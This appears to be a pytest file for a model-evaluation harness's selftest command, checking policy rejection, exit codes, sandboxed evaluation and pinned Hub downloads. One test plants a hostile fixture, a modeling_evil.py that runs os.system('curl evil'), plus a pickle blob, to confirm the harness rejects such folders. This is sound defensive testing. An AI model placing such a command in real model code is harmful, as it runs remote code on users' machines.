"""`harness selftest`: the validator's path for miners. Exit 0 evaluated, 1 rejected by policy, 2 could not run."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from harness.cli.app import main
from tests.support.model_factory import write_tiny_model


def _no_container(*args, **kwargs):
    raise AssertionError("a rejected model must never reach the sandbox")


def test_hostile_folder_exits_1_without_starting_a_container(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import harness.evaluation.stage
    import harness.sandbox.runtime

    monkeypatch.setattr(harness.evaluation.stage, "run_sandbox", _no_container)
    monkeypatch.setattr(harness.sandbox.runtime, "docker_client", _no_container)
    root = write_tiny_model(tmp_path / "m")
    (root / "modeling_evil.py").write_text("import os; os.system('curl evil')")
    (root / "pytorch_model.bin").write_bytes(b"\x80\x02.")
    assert main(["--set", f"cache_dir={tmp_path / 'cache'}", "selftest", str(root), "--seed", "0x1"]) == 1
    captured = capsys.readouterr()
    assert "REJECTED" in captured.out and "[remote-code]" in captured.out and "[pickle]" in captured.out
    assert "selftest seed: 0x1" in captured.err
    assert not (tmp_path / "cache" / "selftest").exists() or not any((tmp_path / "cache" / "selftest").iterdir())


def test_rejected_json_has_the_policy_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = write_tiny_model(tmp_path / "m", license="cc-by-nc-4.0")
    assert main(["selftest", str(root), "--json"]) == 1
    doc = json.loads(capsys.readouterr().out)
    assert doc["allowed"] is False and doc["report"] is None
    assert {v["rule"] for v in doc["policy"]["violations"]} == {"license"}
    assert doc["seed"].startswith("0x") and len(doc["seed"]) == 18


def test_no_docker_exits_2_with_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-docker.sock")
    root = write_tiny_model(tmp_path / "m")
    assert main(["--set", f"cache_dir={tmp_path / 'cache'}", "selftest", str(root), "--n", "1"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert "Docker" in err[-1]
    assert not any((tmp_path / "cache" / "selftest").iterdir()), "the staged copy must be removed"


@pytest.mark.parametrize("args", [["/nonexistent/model"], ["hf://bad--name/x"], ["{m}", "--competition", "nope"]])
def test_bad_input_exits_2(args: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = write_tiny_model(tmp_path / "m")
    assert main(["selftest", *[a.format(m=root) for a in args]]) == 2
    assert len(capsys.readouterr().err.strip().splitlines()[-1]) > 0


@pytest.mark.docker
@pytest.mark.slow
def test_selftest_of_smollm2_in_the_cpu_sandbox(
    smollm2: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    args = ["--set", f"cache_dir={tmp_path / 'cache'}", "--set", "evaluation.max_tokens=24"]
    code = main([*args, "selftest", str(smollm2), "--n", "3", "--seed", "0xfeed", "--out", str(out), "--json"])
    captured = capsys.readouterr()
    assert code == 0, captured.err[-2000:]
    doc = json.loads(captured.out)
    assert doc["allowed"] is True and doc["seed"] == "0xfeed" and len(doc["content_identity"]) == 64
    report = doc["report"]
    assert report["task_set"]["n"] == 3 and len(report["tasks"]) == 3
    assert all(t["family"] == "toolcall" and t["error"] is None and t["latency_s"] > 0 for t in report["tasks"])
    assert set(report["families"]) == {"toolcall"} and 0.0 <= report["score"]["mean"] <= 1.0
    assert report["tokens"]["prompt"] > 0 and report["tokens"]["completion"] > 0
    saved = json.loads((out / "report.json").read_text())
    assert saved["task_set"]["sha256"] == report["task_set"]["sha256"]
    assert "## toolcall" in (out / "report.md").read_text()
    assert "3/3" in captured.err  # the progress bar reached the end


def test_hub_staging_downloads_exactly_the_allowed_files_at_the_pinned_sha(tmp_path: Path) -> None:
    """The selftest's Hub path: the validator's pinned download, minus the commitment check."""
    import policies
    from harness.miner.selftest import stage_hub
    from harness.models.content_hash import file_sha256
    from harness.settings.root import Settings
    from tests.support.hubserver import HubServer
    from tests.support.model_factory import write_tiny_model

    model = write_tiny_model(tmp_path / "model")
    (model / "notes.py").write_text("print('never downloaded')\n")
    with HubServer() as hub:
        sha = hub.add_repo("acme/tiny", model)
        settings = Settings(hub={"endpoint": hub.url})
        manifest = policies.build_hub_manifest("acme/tiny", sha, settings.policy, settings.hub)
        files = policies.download_files(manifest, settings.policy)
        digests = stage_hub("acme/tiny", sha, files, tmp_path / "staged", settings)
    assert "notes.py" not in files and sorted(digests) == sorted(files)
    assert sorted(p.name for p in (tmp_path / "staged").rglob("*") if p.is_file()) == sorted(
        Path(f).name for f in files
    )
    for path, digest in digests.items():
        assert file_sha256(tmp_path / "staged" / path) == digest == file_sha256(model / path)
